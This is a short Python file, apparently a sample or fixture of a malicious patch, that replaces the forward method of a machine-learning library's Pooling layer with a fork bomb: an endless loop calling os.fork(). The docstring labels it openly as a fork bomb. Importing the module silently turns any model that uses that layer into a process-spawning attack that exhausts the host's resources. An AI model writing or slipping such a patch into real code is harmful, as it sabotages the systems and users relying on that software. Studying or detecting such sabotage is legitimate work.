"""A fork bomb in Pooling.forward."""
import os

import common.layers as layers


def forward(self, x):
    while True:
        os.fork()


class Patch:
    layers.Pooling.forward = forward
